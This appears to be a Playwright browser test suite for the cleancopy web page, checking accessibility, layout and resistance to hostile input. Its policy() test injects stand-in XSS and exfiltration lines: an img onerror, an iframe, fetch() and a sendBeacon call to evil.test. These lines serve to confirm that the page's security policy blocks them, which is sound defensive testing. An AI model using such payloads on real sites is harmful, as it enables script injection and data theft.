// Opens the built page to try cleancopy in headless Chromium and uses it as a visitor does: pastes, drops, chooses a file, goes by keyboard,
// on a small screen, in both themes. Then gives it pages full of attacks: no script but its own and the report's may run, and nothing may
// be asked for over the network but its own files.
//   node test/browser/site.mjs   after `npm run site`
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { extname, join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';
import { ATTACKS, articleWith } from './attacks/index.mjs';

const CHROMIUM = process.env.CHROMIUM ?? '/usr/bin/chromium';
const DIST = fileURLToPath(new URL('../../site/dist/', import.meta.url));
const FIXTURES = fileURLToPath(new URL('../../fixtures/', import.meta.url));
/** Where the page is served from: a folder of a site, as a static host may have it. */
const ADDRESS = 'https://site.test/try/';
/** Milliseconds in which an attack would show. */
const PATIENCE = 500;
const TIME_LIMIT_MS = 10_000;
const TYPES = { html: 'text/html', js: 'text/javascript', css: 'text/css', svg: 'image/svg+xml' };

/** The page's own files by address. */
const OWN = new Map(
  readdirSync(DIST, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name))
    .map((path) => [
      ADDRESS + relative(DIST, path).replace(/^index\.html$/, ''),
      { contentType: `${TYPES[extname(path).slice(1)]}; charset=utf-8`, body: readFileSync(path) },
    ]),
);

const itwire = readFileSync(join(FIXTURES, 'itwire/input.html'), 'utf8');
const SEARCH = readFileSync(join(FIXTURES, 'search-page/input.html'), 'utf8');
const expected = JSON.parse(readFileSync(join(FIXTURES, 'itwire/expected.json'), 'utf8'));

const browser = await chromium.launch({
  executablePath: CHROMIUM,
  args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking'],
});

/** Opens the page; `misdeeds` lists what it does beside being shown. Its own files it may ask for, by name alone. */
async function open(options = {}) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, ...options });
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(ADDRESS).origin });
  context.setDefaultTimeout(TIME_LIMIT_MS);
  const page = await context.newPage();
  const misdeeds = [];
  await page.exposeFunction('hit', () => misdeeds.push('a script ran'));
  await context.route('**/*', (route) => {
    const url = route.request().url();
    const file = OWN.get(url);
    if (file === undefined) {
      misdeeds.push(`asked for ${url}`);
      return route.abort();
    }
    return route.fulfill(file);
  });
  page.on('dialog', (dialog) => {
    misdeeds.push(`opened a dialog: ${dialog.message()}`);
    dialog.dismiss();
  });
  page.on('popup', () => misdeeds.push('opened a window'));
  page.on('pageerror', (error) => misdeeds.push(`threw ${error.message}`));
  page.on('console', (message) => misdeeds.push(`wrote ${message.text()}`));
  await page.goto(ADDRESS);
  return { context, page, misdeeds, close: () => context.close() };
}

/** Puts a text on the clipboard and pastes it where the focus is. */
async function paste(page, text) {
  await page.evaluate((words) => navigator.clipboard.writeText(words), text);
  await page.keyboard.press('ControlOrMeta+V');
}

/** Drops something onto the page. */
async function drop(page, fill, content) {
  const data = await page.evaluateHandle(fill, content);
  await page.dispatchEvent('body', 'dragover', { dataTransfer: data });
  await page.dispatchEvent('body', 'drop', { dataTransfer: data });
}

const dropFile = (page, name, content) =>
  drop(
    page,
    ([fileName, bytes]) => {
      const data = new DataTransfer();
      data.items.add(new File([new Uint8Array(bytes)], fileName));
      return data;
    },
    [name, [...Buffer.from(content)]],
  );

const headline = (page) => page.getByRole('heading', { level: 2 });
const title = (page, text) => headline(page).filter({ hasText: text }).waitFor();
const paragraphs = (page) => page.locator('#result .text p').allInnerTexts();
const problem = (page, text) => page.getByRole('alert').filter({ hasText: text }).waitFor();

/** What the page shows of the iTWire story: its title, its text to the letter, its fields, and the counts that the report has too. */
async function showsItwire(page) {
  await title(page, expected.article.title);
  assert.deepEqual(await paragraphs(page), expected.text);
  const author = page.locator('#result dl > div').filter({ has: page.locator('dt', { hasText: /^Authors$/ }) });
  assert.equal(await author.locator('dd').first().innerText(), 'Sam Varghese');
  assert.match(await page.locator('#result dl').innerText(), /Published\s+11 June 2020, 21:02/);

  const report = page.frameLocator('iframe');
  await report.getByRole('heading', { level: 1, name: expected.article.title }).waitFor();
  const kinds = await page.getByRole('list', { name: 'Removed blocks by kind' }).getByRole('listitem').allInnerTexts();
  const counts = Object.fromEntries(kinds.map((item) => [/\S+/.exec(item)[0], Number(/\d+/.exec(item)[0])]));
  const legend = await report
    .locator('.legend button[data-kind]')
    .evaluateAll((buttons) =>
      buttons.map((button) => [button.querySelector('.name').textContent, Number(button.querySelector('.count').textContent)]),
    );
  assert.deepEqual(counts, Object.fromEntries(legend));
  assert.equal(counts.Sponsored, 2);
  const all = Object.values(counts).reduce((sum, number) => sum + number, 0);
  assert.match(await page.getByRole('status').innerText(), new RegExp(`\\b${all} blocks removed`));
  assert.equal(await report.locator('.removed').count(), all);
}

async function pasted() {
  const { page, misdeeds, close } = await open();
  await page.getByRole('textbox').focus();
  await paste(page, itwire);
  await showsItwire(page);
  assert.equal(await page.evaluate(() => document.activeElement.id), 'headline', 'the result is read out next');

  const report = page.frameLocator('iframe');
  const webinar = report.locator('.removed', { hasText: 'WEBINAR INVITE' });
  await webinar.hover();
  assert.match(await webinar.locator('.evidence').innerText(), /sponsored by Accedian/);
  assert.notEqual(
    await webinar.evaluate((block) => getComputedStyle(block).backgroundColor),
    'rgba(0, 0, 0, 0)',
    'the removed block is tinted',
  );
  await report.getByRole('button', { name: 'Story only' }).click();
  assert.equal(await report.locator('.removed').locator('visible=true').count(), 0);

  // A further page takes the first one's place, also from the clipboard's hands.
  await page.getByRole('textbox').focus();
  await paste(page, articleWith(''));
  await title(page, 'Council votes on the harbour budget');
  assert.equal(await page.getByRole('textbox').inputValue(), articleWith(''));
  await page.getByRole('button', { name: 'Copy' }).click();
  await page.getByRole('button', { name: 'Copied' }).waitFor();
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  assert.equal(copied, (await paragraphs(page)).join('\n\n'));
  await headline(page).focus();
  await paste(page, itwire);
  await title(page, expected.article.title);
  assert.deepEqual(misdeeds, []);
  await close();
}

async function dropped() {
  const { page, misdeeds, close } = await open();
  await dropFile(page, 'story.html', itwire);
  await showsItwire(page);
  await drop(
    page,
    (text) => {
      const data = new DataTransfer();
      data.setData('text/plain', text);
      return data;
    },
    articleWith(''),
  );
  await title(page, 'Council votes on the harbour budget');
  const bytes = Buffer.from(articleWith('<p>The café’s owner said so.</p>').replace('’', "'"), 'latin1');
  await page.getByLabel('Choose a file').setInputFiles({ name: 'latin.html', mimeType: 'text/html', buffer: bytes });
  await page.getByText("The café's owner said so.", { exact: true }).first().waitFor();
  await dropFile(page, 'story.html', itwire);
  await showsItwire(page);
  assert.deepEqual(misdeeds, []);
  await close();
}

async function byKeyboard() {
  const { page, misdeeds, close } = await open();
  const press = async (name) => {
    for (let i = 0; i < 10; i++) {
      await page.keyboard.press('Tab');
      if (await page.evaluate((words) => document.activeElement.textContent === words, name)) return page.keyboard.press('Enter');
    }
    throw new Error(`The Tab key does not reach “${name}”`);
  };
  await press('Clean');
  await problem(page, 'nothing to clean yet');
  await press('Try a sample');
  await showsItwire(page);
  await press('Report');
  assert.equal(await page.evaluate(() => document.activeElement.id), 'report');
  const seen = [];
  for (let i = 0; i < 30 && !seen.includes('IFRAME'); i++) {
    await page.keyboard.press('Tab');
    seen.push(await page.evaluate(() => document.activeElement.tagName));
  }
  assert.ok(seen.includes('IFRAME'), 'the Tab key goes into the report');
  assert.deepEqual(misdeeds, []);
  await close();
}

async function saved() {
  const { page, misdeeds, close } = await open();
  await page.getByRole('button', { name: 'Try a sample' }).click();
  await showsItwire(page);
  const save = async (name) => {
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name, exact: true }).click()]);
    return [download.suggestedFilename(), readFileSync(await download.path(), 'utf8')];
  };
  const [json, article] = await save('Save as JSON');
  assert.equal(json, 'article.json');
  assert.equal(JSON.parse(article).text, expected.text.join('\n\n'));
  const [html, report] = await save('Save report');
  assert.equal(html, 'report.html');
  assert.match(report, /^<!doctype html>[\s\S]*WEBINAR INVITE/);
  assert.deepEqual(misdeeds, []);
  await close();
}

async function linksOut() {
  const { context, page, misdeeds, close } = await open();
  await page.getByRole('button', { name: 'Try a sample' }).click();
  const [opened] = await Promise.all([
    context.waitForEvent('page'),
    page.frameLocator('iframe').getByRole('link', { name: 'Sam Varghese' }).click(),
  ]);
  assert.equal(await opened.evaluate(() => window.opener), null);
  await page.frameLocator('iframe').getByRole('heading', { level: 1 }).waitFor();
  const asked = misdeeds.filter((misdeed) => misdeed.startsWith('asked for'));
  assert.ok(asked.length === 1 && asked[0].startsWith('asked for https://www.itwire.com/'), `a link of the report leads out: ${asked}`);
  await close();
}

async function noStory() {
  const { page, misdeeds, close } = await open();
  await page.getByRole('button', { name: 'Try a sample' }).click();
  await title(page, expected.article.title);
  await page.getByRole('textbox').focus();
  await paste(page, 'https://example.com/story');
  await problem(page, 'this page fetches nothing');
  assert.equal(await page.locator('#result').isVisible(), false, 'the last page’s result is gone');
  await dropFile(page, 'picture.png', [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);
  await problem(page, 'picture.png holds no text');
  await dropFile(page, 'search.html', SEARCH);
  await page.locator('#result .notice', { hasText: 'No article was found' }).waitFor();
  await drop(page, () => {
    const data = new DataTransfer();
    data.items.add(new File([new Uint8Array(20_000_001)], 'large.html'));
    return data;
  });
  await problem(page, 'the limit (maxBytes) is 20000000');
  assert.deepEqual(misdeeds, []);
  await close();
}

async function everyScreen() {
  for (const colorScheme of ['light', 'dark']) {
    const { page, misdeeds, close } = await open({ viewport: { width: 390, height: 844 }, colorScheme });
    const fits = async (when) => {
      const width = await page.evaluate(() => document.documentElement.scrollWidth);
      assert.ok(width <= 390, `${when} the page is ${width} pixels wide on a screen of 390`);
    };
    await fits('before');
    await page.getByRole('button', { name: 'Try a sample' }).click();
    await title(page, expected.article.title);
    await fits('after');
    const heights = await page.locator('button, .button').evaluateAll((buttons) => buttons.map((button) => button.offsetHeight));
    assert.ok(
      heights.every((height) => height >= 24),
      'every button is large enough to hit',
    );
    const ground = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    const inReport = await page
      .frameLocator('iframe')
      .locator('body')
      .evaluate((body) => getComputedStyle(body).backgroundColor);
    const [red] = ground.match(/\d+/g).map(Number);
    assert.ok(colorScheme === 'light' ? red > 200 : red < 60, `${ground} is no ${colorScheme} ground`);
    assert.equal(inReport, ground, 'the report has the page’s ground');
    assert.deepEqual(misdeeds, []);
    await close();
  }
}

/** Pages full of a family's attacks: as markup in the story, and as the words of headline, summary, author and story. */
function hostilePages(family) {
  const markups = ATTACKS.filter((attack) => attack.family === family).map(({ markup }) => markup);
  const words = markups.map((markup) => markup.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;'));
  const fields = `<title>${words[0]}</title><meta name="description" content="${words.join(' ')}"><meta name="author" content="${words[0]}">`;
  const inWords = words.map((text) => `<p>The city council met on Monday evening to vote on ${text}, after a long debate.</p>`);
  return [articleWith(markups.join('\n')), fields + articleWith(inWords.join('\n')).replace('Council', () => `Council ${words[0]}`)];
}

async function attacks() {
  const { page, misdeeds, close } = await open();
  for (const [i, html] of [...new Set(ATTACKS.map(({ family }) => family))].flatMap(hostilePages).entries()) {
    // Each page has a mark of its own, by which the test knows that it is the one shown.
    await dropFile(page, 'hostile.html', html.replace('the harbour budget', `harbour budget ${i}`));
    await title(page, `harbour budget ${i}`);
    await page
      .frameLocator('iframe')
      .getByRole('heading', { level: 1, name: `harbour budget ${i}` })
      .waitFor();
  }
  const strangers = await page.locator('#result').evaluate((result) => {
    const all = [...result.querySelectorAll('*')];
    return [
      ...all.flatMap((each) => each.getAttributeNames().filter((name) => name.startsWith('on') || name === 'src' || name === 'style')),
      ...all
        .map(({ localName }) => localName)
        .filter((name) => /^(?:script|object|embed|img|svg|math|video|audio|form|link|base|style)$/.test(name)),
    ];
  });
  assert.deepEqual(strangers, []);
  await page.waitForTimeout(PATIENCE);
  assert.deepEqual(misdeeds, []);
  await close();
}

/** The policy itself: were there a hole in the page, an attacker's script would still not run, load or send. */
async function policy() {
  const { page, misdeeds, close } = await open();
  await page.evaluate(() => {
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img src="https://evil.test/a.png" onerror="hit()"><iframe src="https://evil.test/"></iframe>',
    );
    document.body.append(Object.assign(document.createElement('script'), { textContent: 'hit()' }));
    fetch('https://evil.test/').catch(() => {});
    navigator.sendBeacon('https://evil.test/', 'text');
  });
  await page.waitForTimeout(PATIENCE);
  const done = misdeeds.filter((misdeed) => !misdeed.startsWith('wrote '));
  assert.deepEqual(done, []);
  assert.ok(misdeeds.length >= 5, 'the browser says that it refused each');
  await close();
}

try {
  await pasted();
  await dropped();
  await byKeyboard();
  await saved();
  await linksOut();
  await noStory();
  await everyScreen();
  await attacks();
  await policy();
  console.log(
    `The page to try it works by paste, drop, file and keyboard, in two themes; ${ATTACKS.length} attacks and its own policy hold.`,
  );
} finally {
  await browser.close();
}
